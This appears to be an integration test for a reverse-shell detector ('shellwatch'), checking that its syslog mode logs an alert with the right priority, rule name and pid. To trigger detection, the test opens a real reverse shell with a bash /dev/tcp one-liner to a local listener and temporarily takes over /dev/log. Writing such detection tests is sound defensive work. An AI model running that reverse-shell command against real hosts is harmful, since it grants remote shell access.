#!/usr/bin/env bash
# syslog.sh: `shellwatch run --syslog` sends one line per alert to syslog (/dev/log). The test
# listens on /dev/log itself: inside a private mount namespace bound over the real one when this
# machine has a syslog daemon, or at /dev/log (removed afterwards) when it has none.
. "$(dirname "$0")/../lib.sh"
require_live "run --syslog"

log=$SW_TMP/syslog.out sock=$SW_TMP/log.sock
if [ -e /dev/log ] && ! command -v unshare >/dev/null; then
	tap_skip "run --syslog" "/dev/log belongs to a syslog daemon and unshare is missing"
	exit 0
fi
cat >"$SW_TMP/inner.sh" <<'INNER'
set -u
log=$1 sock=$2 bin=$3 port=$4 tmp=$5
socat -u UNIX-RECV:"$sock" OPEN:"$log",creat,append &
for _ in $(seq 250); do [ -S "$sock" ] && break; sleep 0.02; done
if [ -e /dev/log ]; then mount --bind "$sock" /dev/log || exit 3; else ln -s "$sock" /dev/log; fi
"$bin" run --syslog -o "$tmp/alerts.txt" 2>"$tmp/run.err" &
run=$!
for _ in $(seq 500); do grep -q ready "$tmp/run.err" && break; sleep 0.02; done
printf 'exit\n' | socat -t 5 TCP-LISTEN:"$port",bind=127.0.0.1,reuseaddr STDIO >/dev/null 2>&1 &
for _ in $(seq 250); do ss -Htln "sport = :$port" | grep -q . && break; sleep 0.02; done
bash -c "bash -i >& /dev/tcp/127.0.0.1/$port 0>&1" 2>/dev/null
for _ in $(seq 250); do grep -q "remote=127.0.0.1:$port" "$log" 2>/dev/null && break; sleep 0.02; done
kill -TERM "$run"; wait "$run"
[ -L /dev/log ] && rm -f /dev/log
kill %1 2>/dev/null
exit 0
INNER
port=$(free_port)
if [ -e /dev/log ]; then
	unshare -m --propagation private bash "$SW_TMP/inner.sh" "$log" "$sock" "$SW_BIN" "$port" "$SW_TMP"
else
	bash "$SW_TMP/inner.sh" "$log" "$sock" "$SW_BIN" "$port" "$SW_TMP"
fi
line=$(grep "remote=127.0.0.1:$port" "$log" 2>/dev/null | head -1)
check "an alert reached syslog" test -n "$line"
check "syslog line is tagged shellwatch with priority alert/authpriv ($line)" \
	bash -c "[[ '${line//\'/}' == '<81>'*'shellwatch['*']: '* ]]"
check "syslog line names the rule, pid and signals" \
	bash -c "[[ '${line//\'/}' == *'reverse-shell'*' pid='*'signals='*rule* ]]"
check "the alert also went to --output" grep -q "remote=127.0.0.1:$port" "$SW_TMP/alerts.txt"
